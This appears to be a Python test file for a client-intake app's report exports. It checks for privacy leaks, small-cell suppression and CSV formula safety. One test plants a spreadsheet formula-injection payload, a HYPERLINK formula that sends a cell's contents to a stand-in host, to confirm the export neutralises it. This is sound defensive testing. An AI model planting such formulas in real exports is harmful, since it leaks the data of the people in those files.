"""Every way a report leaves the program (CSV zip, PDF text and metadata, JSON, the
chart's SVG and words) carries no planted sentinel, no barrier and no formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from intake_app.domain.clients import (
    Barriers,
    Consent,
    ConsentMethod,
    HouseholdMember,
    Need,
    ShareItem,
)
from intake_app.domain.common import Lang, Tri, Urgency
from intake_app.domain.referrals import ReferralState
from intake_app.domain.reports import ReportPeriod
from intake_app.referrals.state import change_state
from intake_app.reports.charts import chart_description, chart_svg
from intake_app.reports.export_csv import safe
from intake_app.reports.use_cases import ExportFormat, ReportRequest, build_report, render_export
from intake_app.settings import change_settings
from intake_app.vault.session import VaultSession
from tests.conftest import SENTINEL_PREFIX, sentinel
from tests.helpers.pdf import pdf_metadata, pdf_text
from tests.unit.reports.helpers import add_directory, at, refer, service_for, take_in

_BARRIER_WORDS = (
    "health card",
    "assurance maladie",
    "photo ID",
    "pièce d'identité",
    "proof of address",
    "preuve d'adresse",
    "Aucun revenu",
    "No income",
)


def _plant(session: VaultSession, count: int = 8) -> None:
    """`count` clients alike, a sentinel in every field, every barrier ticked, each
    referred (with a sentinel outcome note): enough people to pass any threshold."""
    change_settings(session, {"clients.sensitive_note_enabled": True})
    services = add_directory(session)
    made = take_in(
        session,
        at(2026, 2, 3),
        count=count,
        given_name=sentinel("given"),
        family_name=sentinel("family"),
        preferred_name=sentinel("preferred"),
        phone=sentinel("phone"),
        email=sentinel("email") + "@example.org",
        area=sentinel("area"),
        notes=sentinel("notes"),
        sensitive_note=sentinel("masked"),
        birth_year=1990,  # the age range is validated against the list: no free text
        languages=("es", sentinel("lang").lower()),
        household=(HouseholdMember(sentinel("relation"), sentinel("memberage")),),
        barriers=Barriers(
            no_health_card=Tri.YES,
            no_photo_id=Tri.YES,
            no_proof_of_address=Tri.YES,
            no_income=Tri.YES,
            needs_interpreter=Tri.YES,
        ),
        needs=(Need("housing", Urgency.TODAY, reason=sentinel("reason")),),
        consents=(
            Consent(
                purpose=sentinel("purpose"),
                shares=frozenset({ShareItem.NAME}),
                with_whom=sentinel("withwhom"),
                method=ConsentMethod.WRITTEN,
            ),
        ),
    )
    for client in made:
        rid = refer(session, client, service_for(services, "housing"), at(2026, 2, 4))
        change_state(session, rid, ReferralState.NO_SHOW, outcome_note=sentinel("outcome"))


def _texts(data: bytes, fmt: ExportFormat) -> list[str]:
    if fmt is ExportFormat.PDF:
        return [pdf_text(data), pdf_metadata(data)]
    if fmt is ExportFormat.CSV:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return [z.read(n).decode("utf-8-sig") for n in z.namelist()] + z.namelist()
    return [data.decode("utf-8")]


@pytest.mark.parametrize("lang", list(Lang))
@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_no_sentinel_or_barrier_reaches_an_export(
    session: VaultSession, fmt: ExportFormat, lang: Lang
) -> None:
    _plant(session)
    report = build_report(session, ReportRequest(ReportPeriod.parse("2026-02")))
    assert report.served == 8  # the figures are there: the test can fail
    for text in _texts(render_export(report, fmt, lang), fmt):
        assert SENTINEL_PREFIX not in text.upper()
        for word in _BARRIER_WORDS:
            assert word.casefold() not in text.casefold(), word
    for table in report.tables:
        words = chart_svg(table, lang).decode() + chart_description(table, lang)
        assert SENTINEL_PREFIX not in words.upper()


def test_the_csv_is_formula_safe(session: VaultSession) -> None:
    """A directory name a spreadsheet would run as a formula arrives as inert text."""
    services = add_directory(session)
    target = service_for(services, "housing")
    with session.write() as conn:
        conn.execute(
            "UPDATE organizations SET name = ? WHERE id = ?",
            ('=HYPERLINK("http://x.example/?"&A1)', target.organization.id),
        )
    for client in take_in(session, at(2026, 2, 3), count=6):
        refer(session, client, target, at(2026, 2, 4))
    report = build_report(session, ReportRequest(ReportPeriod.parse("2026-02")))
    data = render_export(report, ExportFormat.CSV, Lang.EN)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        rows = list(
            csv.reader(io.StringIO(z.read("referrals-organization.csv").decode("utf-8-sig")))
        )
        every = [
            cell
            for n in z.namelist()
            if n.endswith(".csv")
            for row in csv.reader(io.StringIO(z.read(n).decode("utf-8-sig")))
            for cell in row
        ]
    assert any(row[0].startswith("'=HYPERLINK") and row[1] == "6" for row in rows)
    assert not [c for c in every if c[:1] in ("=", "+", "-", "@")]
    assert [safe(x) for x in ("+1", "-1", "@a", "\tx", "ok")] == ["'+1", "'-1", "'@a", "'\tx", "ok"]


def test_the_json_uses_the_same_cells_as_the_screen(session: VaultSession) -> None:
    take_in(session, at(2026, 2, 3), count=7)
    take_in(session, at(2026, 2, 3), count=2, letter_language=Lang.FR)
    report = build_report(session, ReportRequest(ReportPeriod.parse("2026-02")))
    doc = json.loads(render_export(report, ExportFormat.JSON, Lang.EN))
    cells = {c["code"]: c["people"] for c in doc["tables"]["clients.letter_language"]["cells"]}
    screen = {c.category: c.value for c in report.table("clients.letter_language").cells}
    assert cells == screen == {"fr": None, "en": None}  # 2 is small, so 7 must go too
    assert doc["clients_served"] == 9
    assert doc["disclosure"]["min_cell"] == 5
